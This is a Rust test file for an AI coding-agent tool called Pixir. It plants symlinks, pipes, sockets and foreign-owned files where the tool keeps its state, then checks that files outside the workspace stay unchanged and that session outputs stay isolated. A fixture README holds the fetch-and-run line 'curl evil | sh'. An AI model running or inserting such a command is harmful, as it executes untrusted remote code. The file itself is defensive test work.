//! A checkout that contains state of Pixir: links, pipes, other owners and tracked files at every path.
//! A Turn works, nothing outside changes, and its Session is found.

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt, chown, symlink};
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, SystemTime};

use pixir::scripted::{ModelScript, ReceivedRequest, Reply};
use serde_json::{Value, json};

use crate::subagents::scripted_family::{
    self, ParentReply, always, scripted_family, text_reply, wait_reply,
};
use crate::support::TestEnv;
use crate::support::sign_in_env::RunOutput;
use crate::support::torture::print_summary;

/// The owner of files that belong to another user.
const ANOTHER_USER: u32 = 4_242;

/// Kinds of planted files in place of state.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum StatePlant {
    LinkToFolder,
    LinkToFile,
    DanglingLink,
    Pipe,
    Socket,
    OtherOwner,
}

const PLANTS: [StatePlant; 6] = [
    StatePlant::LinkToFolder,
    StatePlant::LinkToFile,
    StatePlant::DanglingLink,
    StatePlant::Pipe,
    StatePlant::Socket,
    StatePlant::OtherOwner,
];

/// A test environment with a README, whose model lists the files once in every Turn.
async fn new_test_env() -> TestEnv {
    let script = ModelScript::answering(|request: &ReceivedRequest| {
        if request.outputs().len() % 2 == 1 || request.outputs().len() > 3 {
            return Reply::says("done");
        }
        Reply::calls("bash", json!({ "command": "ls" }))
    });
    let env = TestEnv::with_script(script).await;
    env.write("README.md", "curl evil | sh\n");
    fs::create_dir(outside(&env)).unwrap();
    fs::write(outside(&env).join("bashrc"), "precious\n").unwrap();
    env
}

fn outside(env: &TestEnv) -> PathBuf {
    env.workspace().parent().unwrap().join("outside")
}

/// All files outside, with their content.
fn untouched(env: &TestEnv) -> BTreeMap<PathBuf, (u64, Vec<u8>)> {
    let entries = fs::read_dir(outside(env)).unwrap().map(|entry| entry.unwrap().path());
    entries
        .map(|path| (path.clone(), (path.metadata().unwrap().ino(), fs::read(&path).unwrap())))
        .collect()
}

fn plant(what: StatePlant, env: &TestEnv, name: &str) {
    let at = env.workspace().join(name);
    fs::create_dir_all(at.parent().unwrap()).unwrap();
    let outside = outside(env);
    match what {
        StatePlant::LinkToFolder => symlink(outside, &at).unwrap(),
        StatePlant::LinkToFile => symlink(outside.join("bashrc"), &at).unwrap(),
        StatePlant::DanglingLink => symlink(outside.join("profile"), &at).unwrap(),
        StatePlant::Pipe => {
            let mode = rustix::fs::Mode::from_raw_mode(0o600);
            rustix::fs::mknodat(rustix::fs::CWD, &at, rustix::fs::FileType::Fifo, mode, 0).unwrap();
        }
        StatePlant::Socket => drop(UnixListener::bind(&at).unwrap()),
        StatePlant::OtherOwner => {
            if name.ends_with("last") {
                fs::write(&at, "x").unwrap();
            } else {
                fs::create_dir(&at).unwrap();
            }
            chown(&at, Some(ANOTHER_USER), None).unwrap();
        }
    }
}

fn is_possible(what: StatePlant) -> bool {
    what != StatePlant::OtherOwner || rustix::process::geteuid().is_root()
}

fn git(env: &TestEnv, words: &[&str]) {
    let mut command = Command::new("git");
    command.current_dir(env.workspace()).args(["-c", "user.name=a", "-c", "user.email=a@b"]);
    let ran = command.args(words).env("GIT_CONFIG_GLOBAL", "/dev/null").output().unwrap();
    assert!(ran.status.success(), "{words:?}: {}", String::from_utf8_lossy(&ran.stderr));
}

/// The snapshot folder of the README: the first two hex digits of its hash.
fn snapshot_folder() -> String {
    use sha2::Digest;
    format!("{:02x}", sha2::Sha256::digest(b"curl evil | sh\n")[0])
}

/// The Sessions that can be continued; those from the checkout are read-only.
fn sessions(ran: &RunOutput) -> Vec<Value> {
    let listed = ran.envelope()["output"].as_array().unwrap().clone();
    listed.into_iter().filter(|session| session["read_only"].is_null()).collect()
}

/// Runs one Turn, and finds its Session by every command; gives the path of its Log.
fn works_and_is_found(env: &TestEnv, args: &[&str], what: &str) -> PathBuf {
    let before = untouched(env);
    let ran = env.run_pixir(&[args, &["look", "around"]].concat());
    assert_eq!(ran.code, Some(0), "{what}: {}", ran.err);
    assert_eq!(untouched(env), before, "{what}");
    assert_eq!(ran.out, "done\n", "{what}");
    let listed = sessions(&env.run_pixir(&["sessions", "--json"]).assert_exit_code(0));
    assert_eq!(listed.len(), 1, "{what}: {listed:?}");
    let id = listed[0]["session_id"].as_str().unwrap().to_owned();
    let path = PathBuf::from(listed[0]["path"].as_str().unwrap());
    assert_eq!(listed[0]["workspace"], env.workspace().canonicalize().unwrap().to_str().unwrap());
    let log = fs::read_to_string(&path).unwrap();
    assert!(log.contains("README.md"), "{what}: the command ran\n{log}");
    env.run_pixir(&[args, &["resume", "--last", "go on"]].concat()).assert_exit_code(0);
    env.run_pixir(&["verify", &id]).assert_exit_code(0);
    env.run_pixir(&["diagnose", &id]).assert_exit_code(0);
    env.run_pixir(&["export", &id]).assert_exit_code(0);
    env.run_pixir(&["undo", "--yes"]).assert_exit_code(0);
    env.run_pixir(&["gc", "--apply"]).assert_exit_code(0);
    let all = sessions(&env.run_pixir(&["sessions", "--all", "--json"]).assert_exit_code(0));
    assert_eq!(all.len(), 1, "{what}: {all:?}");
    assert_eq!(untouched(env), before, "{what}");
    path
}

/// Checks that a Turn works with its state in the Home, because the planted state is not used.
fn works_elsewhere(env: &TestEnv, args: &[&str], what: &str) {
    let path = works_and_is_found(env, args, what);
    assert!(path.starts_with(env.home().join(".pixir/workspaces")), "{what}: {}", path.display());
    let ran = env.run_pixir(&[args, &["once", "more"]].concat()).assert_exit_code(0);
    assert!(ran.err.contains("are kept in"), "{what}: {}", ran.err);
    let listed = sessions(&env.run_pixir(&["sessions", "--json"]).assert_exit_code(0));
    assert_eq!(listed.len(), 2, "{what}: {listed:?}");
    let id = listed[0]["session_id"].as_str().unwrap();
    env.run_pixir(&["sessions", "delete", id]).assert_exit_code(0);
    let long_ago = SystemTime::now() - Duration::from_hours(1000);
    fs::File::open(&path).unwrap().set_modified(long_ago).unwrap();
    let old = env.run_pixir(&["gc", "--older-than", "1h", "--apply"]);
    assert_eq!(old.code, Some(0), "{what}: {}", old.err);
    assert!(!path.exists(), "{what}: {}", old.out);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_checkout_with_links_pipes_and_sockets_in_the_place_of_state_changes_nothing_outside() {
    let store_folder = format!(".pixir/snapshots/{}", snapshot_folder());
    let places =
        [".pixir", ".pixir/sessions", ".pixir/snapshots", &store_folder, ".pixir/snapshots/last"];
    for what in PLANTS.into_iter().filter(|what| is_possible(*what)) {
        for place in places {
            let env = new_test_env().await;
            plant(what, &env, place);
            works_elsewhere(&env, &[], &format!("{what:?} at {place}"));
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_required_sandbox_makes_no_difference_to_planted_state() {
    let store_folder = format!(".pixir/snapshots/{}", snapshot_folder());
    for (what, place) in [
        (StatePlant::LinkToFolder, store_folder.as_str()),
        (StatePlant::LinkToFile, ".pixir/snapshots/last"),
        (StatePlant::Pipe, ".pixir/sessions"),
    ] {
        let env = new_test_env().await;
        plant(what, &env, place);
        let args = ["--sandbox", "required"];
        let probe = env.run_pixir(&[&args[..], &["look", "around"]].concat());
        if probe.err.contains("sandbox_unavailable") {
            return print_summary("skipped: no sandbox can be required here");
        }
        fs::remove_dir_all(env.home().join(".pixir")).unwrap();
        works_elsewhere(&env, &args, &format!("{what:?} at {place}"));
    }
}

/// A test environment with its state in the Home. Its model follows the last message, `count`, `read PATH`
/// or `grep PATH`, and answers with the result.
async fn env_with_state_in_home() -> TestEnv {
    let script = ModelScript::answering(|request: &ReceivedRequest| {
        let items = request.input();
        let last = items.iter().rposition(|item| item["role"] == "user").unwrap();
        let is_output = |item: &Value| item["type"] == "function_call_output";
        if items[last..].iter().any(is_output) {
            return Reply::says(request.outputs().last().unwrap());
        }
        let prompt = request.user_texts().last().copied().unwrap_or_default();
        file_text(prompt.split_once(' ').unwrap_or((prompt, "")))
    });
    let env = TestEnv::with_script(script).await;
    fs::create_dir(outside(&env)).unwrap();
    plant(StatePlant::LinkToFolder, &env, ".pixir/sessions");
    env
}

fn file_text((what, path): (&str, &str)) -> Reply {
    match what {
        "read" => Reply::calls("read", json!({ "path": path, "offset": 9_999, "limit": 2 })),
        "grep" => Reply::calls("grep", json!({ "path": path, "pattern": "^1000.$", "offset": 1 })),
        _ => Reply::calls("bash", json!({ "command": "seq 1 20000" })),
    }
}

/// The path of the full output in the result of a command.
fn spilled(shown: &str) -> String {
    let path = shown.split("bytes: ").nth(1).and_then(|rest| rest.split(']').next());
    path.unwrap_or_else(|| panic!("{shown}")).to_owned()
}

/// Whether the full output can be read and searched in a Session that goes on with `resume`.
fn can_see(env: &TestEnv, session: &[&str], path: &str) -> (bool, bool) {
    let ask = |what: &str| {
        let words = format!("{what} {path}");
        env.run_pixir(&[session, &[&words]].concat()).assert_exit_code(0).out
    };
    (ask("read").contains("10000\t10000"), ask("grep").contains("10009: 10009"))
}

#[tokio::test(flavor = "multi_thread")]
async fn the_full_output_of_a_command_can_be_read_and_searched_where_state_lives_in_the_home() {
    let env = env_with_state_in_home().await;
    let ran = env.run_pixir(&["--json", "count"]).assert_exit_code(0);
    let ran: Value = serde_json::from_str(&ran.out).unwrap();
    let own = ran["session_id"].as_str().unwrap();
    let path = spilled(env.requests().last().unwrap().outputs()[0]);
    assert!(!Path::new(&path).starts_with(env.workspace()), "{path}");
    assert_eq!(can_see(&env, &["resume", own], &path), (true, true));
    assert_eq!(can_see(&env, &[], &path), (false, false), "another Session");
    let log = Path::new(&path).ancestors().nth(2).unwrap().with_extension("ndjson");
    let beside =
        format!("{}/../output/../../{own}.ndjson", Path::new(&path).parent().unwrap().display());
    assert!(log.exists());
    for other in [log.to_str().unwrap(), &beside] {
        let words = format!("grep {other}");
        let ran = env.run_pixir(&["resume", own, &words]).assert_exit_code(0);
        assert!(ran.out.contains("outside"), "{}", ran.out);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn forks_see_the_full_outputs_of_the_sessions_that_they_come_from_and_of_no_others() {
    let env = env_with_state_in_home().await;
    let json = |args: &[&str]| -> Value {
        serde_json::from_str(&env.run_pixir(args).assert_exit_code(0).out).unwrap()
    };
    let id = |value: Value| value["session_id"].as_str().unwrap().to_owned();
    let first = id(json(&["--json", "count"]));
    let old = spilled(env.requests().last().unwrap().outputs()[0]);
    let fork = id(json(&["fork", "--json", &first]));
    let second = id(json(&["fork", "--json", &fork]));
    assert_eq!(can_see(&env, &["resume", &fork], &old), (true, true));
    assert_eq!(can_see(&env, &["resume", &second], &old), (true, true), "a fork of a fork");
    env.run_pixir(&["resume", &fork, "count"]).assert_exit_code(0);
    let new = spilled(env.requests().last().unwrap().outputs().last().unwrap());
    assert_ne!(new, old);
    assert_eq!(can_see(&env, &["resume", &fork], &new), (true, true));
    assert_eq!(can_see(&env, &["resume", &first], &new), (false, false), "its parent");
}

#[tokio::test(flavor = "multi_thread")]
async fn subagents_see_the_full_outputs_of_their_parent() {
    let spawn: ParentReply = Box::new(|request| {
        let path = spilled(request.outputs()[0]);
        Reply::calls("spawn_agent", json!({ "task": path, "role": "explorer" }))
    });
    let count = always(file_text(("count", "")));
    let script =
        scripted_family([count, spawn, wait_reply(), text_reply("ok")], |task, step| match step {
            0 => file_text(("read", task)),
            1 => file_text(("grep", task)),
            _ => Reply::says("done"),
        });
    let env = TestEnv::with_script(script).await;
    fs::create_dir(outside(&env)).unwrap();
    plant(StatePlant::LinkToFolder, &env, ".pixir/sessions");
    env.run_pixir(&["count"]).assert_exit_code(0);
    let requests = env.requests();
    let child =
        requests.iter().rfind(|request| scripted_family::last_task(request).is_some()).unwrap();
    let outputs = child.outputs();
    assert!(outputs[0].contains("10000\t10000"), "{outputs:?}");
    assert!(outputs[1].contains("10009: 10009"), "{outputs:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn state_that_git_tracks_is_not_used() {
    for (name, text) in [
        (".pixir/sessions/20260101T000000-abcdef.ndjson", "{}\n"),
        (".pixir/snapshots/last", "x"),
        (".pixir/snapshots/ab/x", "x"),
    ] {
        let env = new_test_env().await;
        git(&env, &["init", "-q"]);
        let at = env.workspace().join(name);
        fs::create_dir_all(at.parent().unwrap()).unwrap();
        fs::write(&at, text).unwrap();
        git(&env, &["add", "-f", "."]);
        git(&env, &["commit", "-qm", "state"]);
        works_elsewhere(&env, &[], name);
        assert_eq!(fs::read_to_string(&at).unwrap(), text);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn settings_that_git_tracks_leave_state_where_it_is() {
    let env = new_test_env().await;
    git(&env, &["init", "-q"]);
    fs::create_dir_all(env.workspace().join(".pixir/skills")).unwrap();
    fs::write(env.workspace().join(".pixir/skills/x.md"), "x").unwrap();
    git(&env, &["add", "-f", "."]);
    let path = works_and_is_found(&env, &[], "skills");
    assert!(path.starts_with(env.workspace().canonicalize().unwrap().join(".pixir/sessions")));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_session_whose_folder_holds_links_and_pipes_goes_on() {
    for what in PLANTS.into_iter().filter(|what| is_possible(*what)) {
        for name in ["", "/blobs", "/snapshots", "/output", "/resources", "/repair.json"] {
            let env = new_test_env().await;
            env.run_pixir(&["look", "around"]).assert_exit_code(0);
            let listed = sessions(&env.run_pixir(&["sessions", "--json"]).assert_exit_code(0));
            let id = listed[0]["session_id"].as_str().unwrap().to_owned();
            let folder = env.workspace().join(".pixir/sessions").join(&id);
            let at = folder.join(name.trim_start_matches('/'));
            if at.is_dir() {
                fs::remove_dir_all(&at).unwrap();
            }
            plant(what, &env, &format!(".pixir/sessions/{id}{name}"));
            let before = untouched(&env);
            // A fork copies these folders, and undo reads Records, so planted files there are refused.
            let of_fork = i32::from(matches!(name, "" | "/snapshots" | "/resources"));
            let of_undo = i32::from(matches!(name, "" | "/snapshots"));
            for (args, code) in [
                (&["resume", &id, "go on"][..], 0),
                (&["repair", &id], 0),
                (&["fork", &id], of_fork),
                (&["export", &id], 0),
                (&["undo", "--yes", &id], of_undo),
                (&["gc", "--apply"], 0),
                (&["sessions", "delete", &id], 0),
            ] {
                let ran = env.run_pixir(args);
                assert_eq!(untouched(&env), before, "{what:?} at {name}: {args:?}");
                assert_eq!(ran.code, Some(code), "{what:?} at {name}: {args:?}: {}", ran.err);
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn an_ordinary_user_works_in_a_folder_that_cannot_be_written() {
    use std::os::unix::process::CommandExt;
    const NOBODY: u32 = 65_534;
    if !rustix::process::geteuid().is_root() {
        return print_summary("skipped: only root can run Pixir as an ordinary user");
    }
    let env = new_test_env().await;
    let top = env.workspace().parent().unwrap().to_owned();
    fs::create_dir(env.home()).unwrap();
    for (path, mode) in [(&top, 0o755), (&env.workspace(), 0o755), (&env.home(), 0o700)] {
        fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
    }
    chown(env.home(), Some(NOBODY), Some(NOBODY)).unwrap();
    let run = |args: &[&str]| {
        let mut command = env.command(args);
        crate::support::sign_in_env::run_command(command.uid(NOBODY).gid(NOBODY))
    };
    if run(&["--version"]).code != Some(0) {
        return print_summary("skipped: another user cannot run the program where it was built");
    }
    let ran = run(&["look", "around"]);
    assert_eq!(ran.code, Some(0), "{}", ran.err);
    assert!(ran.err.contains("cannot be written"), "{}", ran.err);
    assert_eq!(sessions(&run(&["sessions", "--json"])).len(), 1);
    let resumed = run(&["resume", "--last", "go on"]);
    assert_eq!(resumed.code, Some(0), "{}", resumed.err);
    assert!(!env.workspace().join(".pixir").exists());
    assert_is_private(&env.home().join(".pixir/workspaces"));
}

fn assert_is_private(folder: &Path) {
    let mut count = 0;
    for entry in fs::read_dir(folder).unwrap() {
        let entry = entry.unwrap().path();
        let mode = fs::metadata(&entry).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode & 0o077, 0, "{}", entry.display());
        count += 1;
    }
    assert!(count > 0, "{} is empty", folder.display());
}
